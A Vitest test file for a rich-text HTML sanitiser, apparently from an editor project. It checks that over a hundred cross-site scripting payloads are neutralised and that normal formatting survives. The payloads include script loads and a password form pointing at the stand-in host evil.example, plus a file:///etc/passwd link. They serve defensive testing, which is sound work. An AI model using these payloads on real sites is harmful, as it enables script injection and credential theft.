import { describe, expect, it } from 'vitest';
import { cleanHtml, richTextCode } from './rich-text.ts';

/** Ways to make a page do something, one a line. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code="x.class"></applet>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)><p>x',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>p{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/track.gif)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p style="color:red;position:fixed;inset:0;z-index:9999">cover</p>',
  '<p style="color:red&quot; onmouseover=&quot;alert(1)">x</p>',
  '<p style="font-family:x;}*{display:none">x</p>',
  '<p style="color:\\65xpression(alert(1))">x</p>',
  '<p style="color: red /* */; content: attr(x)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://example.in/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="\\\\evil.example\\x">x</a>',
  '<a href="https://x.example" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<a href="https://x.example" target="_self" rel="opener">x</a>',
  '<a href="https://x.example"><img src=x onerror=alert(1)></a>',
  '<a name="x" id="x" class="x" download ping="https://evil.example">x</a>',
  '<p onclick=alert(1)>x</p>',
  '<p OnMouseOver="alert(1)">x</p>',
  '<p/onpointerenter=alert(1)>x</p>',
  '<p onclick\n=\nalert(1)>x</p>',
  '<p dir="rtl" onclick="alert(1)">x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen onfocus=alert(1) autofocus>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<p title="a"><script>alert(1)</script>">x</p>',
  '<p data-x="<script>alert(1)</script>">x</p>',
  '"><script>alert(1)</script>',
  "';alert(1);//",
  '</p></div></main><script>alert(1)</script>',
  '<x onclick=alert(1) style=behavior:url(#default)>x</x>',
  '<custom-element onconnected=alert(1)>x</custom-element>',
  '<p slot=x is=x contenteditable popover>x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<\u0000script>alert(1)</script>',
  '<p>\u202e</p><script>alert(1)</script>',
];

const TAGS = /^(p|br|h[1-4]|strong|b|em|i|u|s|strike|blockquote|pre|code|ol|ul|li|sub|sup|a|span|mark|hr)$/;
const ATTRIBUTES = /^(dir|style|data-indent|start|href|rel|target)$/;
const PROPERTIES =
  /^(color|background-color|text-align|font-size|font-family|(margin|padding)-(left|right)):[^:;()\\]*(\([\d\s.,%]+\))?$/;

function checkStyle(value: string) {
  for (const declaration of value.split(';').filter(Boolean)) expect(declaration).toMatch(PROPERTIES);
}

/** Every tag that is left is one that the editor makes, with nothing in it that the editor does not make. */
function expectHarmless(html: string) {
  const tags = [...html.matchAll(/<[^>]*>?/g)].map(([tag]) => tag);
  for (const tag of tags) {
    const [, name = '', rest = ''] = /^<\/?([a-z][a-z0-9]*)((?:\s[^>]*)?)\/?>$/.exec(tag) ?? [];
    expect(name, tag).toMatch(TAGS);
    const bare = rest.endsWith('/') ? rest.slice(0, -1).trimEnd() : rest;
    const attributes = [...rest.matchAll(/\s([a-z-]+)="([^"]*)"/g)];
    expect(attributes.map(([all]) => all).join('').length, tag).toBe(bare.length);
    for (const [, attribute = '', value = ''] of attributes) {
      expect(attribute, tag).toMatch(ATTRIBUTES);
      if (attribute === 'style') checkStyle(value);
      if (attribute === 'href') expect(value, tag).toMatch(/^(https?:\/\/|mailto:|tel:)\S+$/i);
    }
  }
}

describe('rich text', () => {
  it('is tried with more than sixty payloads', () => {
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
    expect(PAYLOADS.length).toBeGreaterThan(60);
  });

  it.each(PAYLOADS)('is harmless with %s', (payload) => {
    for (const html of [payload, `<p>${payload}</p>`, `<ul><li>${payload}</li></ul>`, payload.repeat(2)]) {
      const clean = cleanHtml(html);
      expectHarmless(clean);
      const again = cleanHtml(clean);
      expectHarmless(again);
      expect(cleanHtml(again)).toBe(again);
    }
  });

  it.each([
    ['bold', '<p><strong>x</strong></p>'],
    ['italic', '<p><em>x</em></p>'],
    ['underline', '<p><u>x</u></p>'],
    ['strike', '<p><s>x</s></p>'],
    ['code', '<p><code>x</code></p>'],
    ['a code block', '<pre><code>a &lt; b\n  c</code></pre>'],
    ['a quotation', '<blockquote><p>x</p></blockquote>'],
    ['headings', '<h2>x</h2><h3>y</h3><h4>z</h4>'],
    ['a bullet list', '<ul><li><p>x</p><ul><li><p>y</p></li></ul></li></ul>'],
    ['a numbered list', '<ol start="3"><li><p>x</p></li></ol>'],
    ['subscript and superscript', '<p>H<sub>2</sub>O x<sup>2</sup></p>'],
    ['a colour', '<p><span style="color:#b42318">x</span></p>'],
    ['a colour in parts', '<p><span style="color:rgb(180, 35, 24)">x</span></p>'],
    ['a background', '<p><span style="background-color:#fef0c7">x</span></p>'],
    ['a font', '<p><span style="font-family:Georgia, serif">x</span></p>'],
    ['a size', '<p><span style="font-size:1.25em">x</span></p>'],
    ['a size in pixels', '<p><span style="font-size:18px">x</span></p>'],
    [
      'all of a span at once',
      '<p><span style="color:red;background-color:#fff;font-family:serif;font-size:20px">x</span></p>',
    ],
    ['alignment', '<p style="text-align:center">x</p><h2 style="text-align:right">y</h2>'],
    ['indent', '<p data-indent="2" style="margin-left:4em">x</p>'],
    ['indent from the right', '<p dir="rtl" data-indent="8" style="margin-right:16em">x</p>'],
    ['direction', '<p dir="rtl">x</p><ul dir="rtl"><li><p>y</p></li></ul>'],
    ['a line break and a rule', '<p>x<br />y</p><hr />'],
    [
      'a link',
      '<p><a href="https://x.example/a?b=1&amp;c=2" rel="noopener nofollow" target="_blank">x</a></p>',
    ],
    [
      'a mail and a phone link',
      '<p><a href="mailto:a@b.in" rel="noopener nofollow" target="_blank">x</a><a href="tel:+919876543210" rel="noopener nofollow" target="_blank">y</a></p>',
    ],
    ['the scripts of India', '<p>नमस्ते · வணக்கம் · నమస్కారం · 🏸</p>'],
  ])('keeps %s [ORG-BASIC-06]', (_name, html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  it('keeps the editor’s own spelling of styles in effect', () => {
    expect(cleanHtml('<p style="text-align: center; margin-left: 2em">x</p>')).toBe(
      '<p style="text-align:center;margin-left:2em">x</p>',
    );
  });

  it('gives every link away without trust', () => {
    expect(cleanHtml('<a href="https://x.example" rel="opener" target="_top">x</a>')).toBe(
      '<a href="https://x.example" rel="noopener nofollow" target="_blank">x</a>',
    );
  });

  it.each([
    ['deep', '<b>'.repeat(50_000)],
    ['many', '<p>x</p>'.repeat(25_000)],
    ['open', '<'.repeat(200_000)],
    ['entities', '&'.repeat(200_000)],
    ['comments', '<!--'.repeat(50_000)],
    ['attributes', `<p ${'a="b" '.repeat(30_000)}>x</p>`],
    ['styles', `<p style="${'color:red;'.repeat(19_000)}">x</p>`],
    ['a font', `<p style="font-family:${'a '.repeat(90_000)}">x</p>`],
    ['colours', `<p style="color:rgb(${'1 '.repeat(90_000)}">x</p>`],
    ['deep in paragraphs', '<b></p>'.repeat(28_000)],
    ['deep in names that nobody knows', '<x>'.repeat(66_000)],
    ['deep behind comments', '<b><!-- </b> -->'.repeat(12_000)],
  ])('is cleaned to its end when it is %s', (_name, html) => {
    expect(cleanHtml(html).length).toBeLessThanOrEqual(html.length * 6);
  });

  it('keeps a hundred elements in each other, and of more only the text', () => {
    const nested = (depth: number) => `${'<b>'.repeat(depth)}a &lt; b${'</b>'.repeat(depth)}`;
    expect(cleanHtml(nested(100))).toBe(nested(100));
    expect(richTextCode(nested(100), 2000)).toBeNull();
    for (const depth of [101, 50_000]) {
      expect(cleanHtml(nested(depth))).toBe('a &lt; b');
      expect(richTextCode(nested(depth), 1_000_000)).toBe('text-too-deep');
    }
    expect(richTextCode('<b>x</b>', 7)).toBe('text-too-long');
  });

  it.each(PAYLOADS)('is harmless too deep down with %s', (payload) => {
    expectHarmless(cleanHtml('<b>'.repeat(101) + payload));
    expect(cleanHtml('<b>'.repeat(101) + payload)).not.toMatch(/<[a-z]/i);
  });
});
